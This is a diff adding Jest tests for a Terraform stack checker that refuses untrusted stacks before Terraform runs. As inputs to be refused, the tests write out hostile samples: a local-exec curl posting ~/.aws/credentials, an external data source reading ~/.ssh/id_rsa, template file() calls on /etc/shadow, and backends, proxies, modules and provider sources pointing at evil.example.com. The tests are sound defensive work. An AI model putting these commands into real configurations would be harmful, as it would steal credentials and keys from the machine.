@@ -5,7 +5,7 @@ import * as path from "path";
 
 // Plain JavaScript helpers of terraform-check.sh (npm run terraform:check).
 // eslint-disable-next-line @typescript-eslint/no-require-imports
-const { prepareStack } = require("../prepare-stack");
+const { prepareStack, refusals, MAX_STACK_BYTES } = require("../prepare-stack");
 // eslint-disable-next-line @typescript-eslint/no-require-imports
 const { planLine, changedAttributes, stackRecord } = require("../check-plan");
 // eslint-disable-next-line @typescript-eslint/no-require-imports
@@ -105,6 +105,174 @@ describe("the stack copy the real Terraform runs on", () => {
 
   it.each([null, [], "stack"])("refuses a stack that is %j", (stack) => {
     expect(() => prepareStack(stack, OPTIONS)).toThrow("the stack is not a JSON object");
+  });
+});
+
+// A stack given with --stack may come from a pull request or a stranger: what Terraform would run,
+// fetch or read on this machine besides the AWS provider against the mock is refused, before
+// Terraform starts, naming what and where.
+describe("the stacks the check refuses to run", () => {
+  function refusedFor(edit: (stack: Record<string, any>) => void): string[] {
+    const stack = synthesizedStack();
+    edit(stack);
+    return refusals(stack);
+  }
+
+  it("runs every stack the app synthesizes", () => {
+    const dir = path.join(ROOT, "__tests__/fixtures/synth");
+    const files = ["default/ses-events.json", "all-options/ses-events.json", "multi-environment/production.json", "multi-environment/staging.json"];
+    expect(files.map((file) => refusals(JSON.parse(readFileSync(path.join(dir, file), "utf8"))))).toEqual([[], [], [], []]);
+  });
+
+  it("refuses a local-exec provisioner, naming the resource, and throws before writing a copy", () => {
+    const stack = synthesizedStack();
+    stack.resource.aws_sesv2_configuration_set.Set.provisioner = [{ "local-exec": { command: "curl -d @$HOME/.aws/credentials x" } }];
+    expect(() => prepareStack(stack, OPTIONS)).toThrow(
+      "the stack is refused, nothing of it was run:\n  - aws_sesv2_configuration_set.Set: provisioner local-exec: provisioners and connections are not run: they run commands on this machine or reach other hosts",
+    );
+  });
+
+  it("refuses a provisioner in a resource written as an array of blocks, and a connection", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.resource = [{ aws_s3_bucket: { B: [{ bucket: "b", connection: { host: "evil.example.com", type: "ssh" }, provisioner: { "remote-exec": {} } }] } }];
+      }),
+    ).toEqual([
+      "aws_s3_bucket.B: provisioner remote-exec: provisioners and connections are not run: they run commands on this machine or reach other hosts",
+      "aws_s3_bucket.B: connection: provisioners and connections are not run: they run commands on this machine or reach other hosts",
+    ]);
+  });
+
+  it("refuses terraform_data, null_resource and the external and remote-state data sources", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.resource.terraform_data = { Run: { input: "x" } };
+        stack.resource.null_resource = { Run: {} };
+        stack.data = { external: { Read: { program: ["sh", "-c", "cat ~/.ssh/id_rsa"] } }, terraform_remote_state: { S: { backend: "local" } } };
+      }),
+    ).toEqual([
+      "terraform_data: only aws_ resources run (the hashicorp/aws provider's)",
+      "null_resource: only aws_ resources run (the hashicorp/aws provider's)",
+      "data.external: only aws_ data sources run (the hashicorp/aws provider's)",
+      "data.terraform_remote_state: only aws_ data sources run (the hashicorp/aws provider's)",
+    ]);
+  });
+
+  it("refuses another provider, and hashicorp/aws from another source", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.terraform.required_providers.local = { source: "hashicorp/local" };
+        stack.terraform.required_providers.http = "hashicorp/http";
+        stack.provider.local = [{}];
+      }),
+    ).toEqual([
+      'terraform.required_providers.local (source "hashicorp/local"): only the hashicorp/aws provider runs: no other provider is installed',
+      'terraform.required_providers.http (source "hashicorp/http"): only the hashicorp/aws provider runs: no other provider is installed',
+      "provider.local: only the hashicorp/aws provider runs",
+    ]);
+    expect(refusedFor((stack) => (stack.terraform.required_providers.aws.source = "evil.example.com/hashicorp/aws"))).toEqual([
+      'terraform.required_providers.aws: source "evil.example.com/hashicorp/aws" is not hashicorp/aws: use one of aws, hashicorp/aws, registry.terraform.io/hashicorp/aws',
+    ]);
+    expect(refusedFor((stack) => (stack.terraform.required_providers.aws.source = "registry.terraform.io/HashiCorp/AWS"))).toEqual([]);
+  });
+
+  it("refuses a resource handed to another provider", () => {
+    expect(refusedFor((stack) => (stack.resource.aws_sesv2_configuration_set.Set.provider = "evil"))).toEqual([
+      'aws_sesv2_configuration_set.Set: provider "evil": only the aws provider (aws or aws.ALIAS) runs',
+    ]);
+    expect(refusedFor((stack) => (stack.resource.aws_sesv2_configuration_set.Set.provider = "aws.replica"))).toEqual([]);
+  });
+
+  it("refuses modules from any source, naming the source", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.module = { Git: { source: "git::ssh://git@example.com/evil.git" }, Local: [{ source: "../../../elsewhere" }] };
+      }),
+    ).toEqual([
+      'module.Git (source "git::ssh://git@example.com/evil.git"): modules are not run: Terraform would fetch and run code from their source',
+      'module.Local (source "../../../elsewhere"): modules are not run: Terraform would fetch and run code from their source',
+    ]);
+  });
+
+  it("refuses the blocks that run or read outside the resources (check, removed, ephemeral, action)", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.removed = [{ from: "aws_s3_bucket.B", provisioner: [{ "local-exec": { when: "destroy", command: "x" } }] }];
+        stack.action = { local_command: { Run: {} } };
+      }),
+    ).toEqual([
+      'removed: a "removed" block is not run: the check runs only terraform, provider, resource, data, output, locals, variable, import, moved',
+      'action: a "action" block is not run: the check runs only terraform, provider, resource, data, output, locals, variable, import, moved',
+    ]);
+  });
+
+  it("refuses terraform settings beyond the providers, the version and the backend, and a terraform block as a list", () => {
+    expect(refusedFor((stack) => (stack.terraform.provider_meta = { aws: {} }))).toEqual([
+      "terraform.provider_meta: not run: the check allows only required_providers, required_version, backend, cloud there",
+    ]);
+    expect(refusedFor((stack) => (stack.terraform = [stack.terraform, { backend: { http: { address: "https://evil.example.com" } } }]))).toEqual([
+      "terraform: must be one object (the check rewrites its provider version and backend)",
+    ]);
+  });
+
+  it("replaces any backend with local state, so no backend is ever contacted", () => {
+    const stack = synthesizedStack();
+    stack.terraform.backend = { http: { address: "https://evil.example.com/state" } };
+    stack.terraform.cloud = { organization: "evil" };
+    const { copy } = prepareStack(stack, OPTIONS);
+    expect(copy.terraform).toEqual({ required_providers: { aws: { source: "aws", version: "6.47.1" } }, backend: { local: { path: "terraform.tfstate" } } });
+  });
+
+  it.each(["http_proxy", "https_proxy", "no_proxy", "custom_ca_bundle", "insecure", "ec2_metadata_service_endpoint"])(
+    "refuses an aws provider block that sets %s",
+    (key) => {
+      expect(refusedFor((stack) => (stack.provider.aws[0][key] = "http://evil.example.com:3128"))).toEqual([
+        `provider.aws[0].${key}: not allowed: the check sets how the provider reaches the mock; allowed: alias, region, default_tags, ignore_tags, allowed_account_ids, retry_mode, user_agent, s3_us_east_1_regional_endpoint, use_fips_endpoint, use_dualstack_endpoint, token_bucket_rate_limiter_capacity, skip_credentials_validation, skip_requesting_account_id, skip_metadata_api_check, skip_region_validation, s3_use_path_style, max_retries, endpoints`,
+      ]);
+    },
+  );
+
+  it("refuses a template that reads this machine's files, in a value or a key, with core:: or comments", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.resource.aws_sesv2_configuration_set.Set.configuration_set_name = '${file("~/.aws/credentials")}';
+        stack.locals = { key: '%{ for l in fileset("/", "**") }${l}%{ endfor }', tags: { '${core::filebase64 /* x */ ("/etc/shadow")}': "v" } };
+      }),
+    ).toEqual([
+      'resource.aws_sesv2_configuration_set.Set.configuration_set_name: "${file(\\"~/.aws/credentials\\")}" calls file(), which reads this machine\'s files: not run',
+      'locals.key: "%{ for l in fileset(\\"/\\", \\"**\\") }" calls fileset(), which reads this machine\'s files: not run',
+      'locals.tags (a key): "${core::filebase64 /* x */ (\\"/etc/shadow\\")}" calls filebase64(), which reads this machine\'s files: not run',
+    ]);
+  });
+
+  it("reads the word file in literal text and in references as what they are", () => {
+    expect(
+      refusedFor((stack) => {
+        stack.resource.aws_sesv2_configuration_set.Set.configuration_set_name = "file (${aws_s3_object.file.key}) $${file(x)}";
+      }),
+    ).toEqual([]);
+  });
+
+  it("runs nothing of a stack it refuses from the command line, and names the file when it is too large or not JSON", () => {
+    const dir = mkdtempSync(path.join(tmpdir(), "refused-"));
+    const script = path.join(ROOT, "packages/terraform-check/prepare-stack.js");
+    const write = (text: string) => require("fs").writeFileSync(path.join(dir, "cdk.tf.json"), text);
+    const check = () => spawnSync("node", [script, "--check", path.join(dir, "cdk.tf.json")], { encoding: "utf8" });
+    const stack = synthesizedStack();
+    stack.data = { external: { X: { program: ["id"] } } };
+    write(JSON.stringify(stack));
+    expect(check()).toMatchObject({
+      status: 2,
+      stderr: "terraform-check: error: prepare-stack: the stack is refused, nothing of it was run:\n  - data.external: only aws_ data sources run (the hashicorp/aws provider's)\n",
+    });
+    write("root:x:0:0:root:/root:/bin/bash\n");
+    expect(check().stderr).toBe(`terraform-check: error: prepare-stack: ${path.join(dir, "cdk.tf.json")} is not JSON\n`);
+    write(" ".repeat(MAX_STACK_BYTES + 1));
+    expect(check().stderr).toBe(
+      `terraform-check: error: prepare-stack: ${path.join(dir, "cdk.tf.json")} has ${MAX_STACK_BYTES + 1} bytes: the check reads a stack of at most ${MAX_STACK_BYTES} bytes (a synthesized one has about 60 kB)\n`,
+    );
+    write(JSON.stringify(synthesizedStack()));
+    expect(check()).toMatchObject({ status: 0, stderr: "" });
   });
 });
 
